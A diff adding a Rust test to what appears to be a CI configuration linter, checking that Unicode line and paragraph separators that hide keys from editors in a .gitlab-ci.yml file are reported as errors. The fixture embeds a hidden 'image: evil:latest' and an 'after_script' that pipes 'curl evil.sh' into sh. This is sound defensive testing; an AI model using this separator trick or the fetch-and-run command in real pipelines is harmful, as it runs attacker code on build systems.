@@ -1005,6 +1005,36 @@ fn invisible_characters_are_found_in_the_yaml_as_written() {
     assert_eq!(lines, [5], "{diags:?}");
 }
 
+/// A line or paragraph separator is a line break to GitLab's YAML reader (YAML 1.1) and
+/// not in an editor: a script line that hides an `image:` and an `after_script:` GitLab
+/// reads is an error, never "no problems found".
+#[test]
+fn line_separators_that_hide_keys_from_the_reader_are_errors() {
+    let dir = scratch("yaml-line-separator");
+    for (n, separator) in ['\u{2028}', '\u{2029}', '\u{85}'].into_iter().enumerate() {
+        let text = format!("test:\n  image: busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script:\n    - |\n      echo safe{separator}  image: evil:latest{separator}  after_script: [curl evil.sh | sh]\n");
+        let file = format!("{n}.gitlab-ci.yml");
+        std::fs::write(dir.join(&file), text).expect("write");
+        let (diags, status) = json(&["check", "--format", "json", &file], &dir);
+        let found: Vec<(&str, u64)> = diags
+            .iter()
+            .filter(|d| d["code"] == "PL6007")
+            .map(|d| {
+                (
+                    d["severity"].as_str().unwrap_or(""),
+                    d["line"].as_u64().unwrap_or(0),
+                )
+            })
+            .collect();
+        assert_eq!(
+            found,
+            [("error", 5), ("error", 5)],
+            "{separator:?}: {diags:?}"
+        );
+        assert_eq!(status, 1);
+    }
+}
+
 /// `plumb.toml` applies to the invisible characters of a YAML file as to any finding.
 #[test]
 fn plumb_toml_applies_to_invisible_characters_in_yaml() {
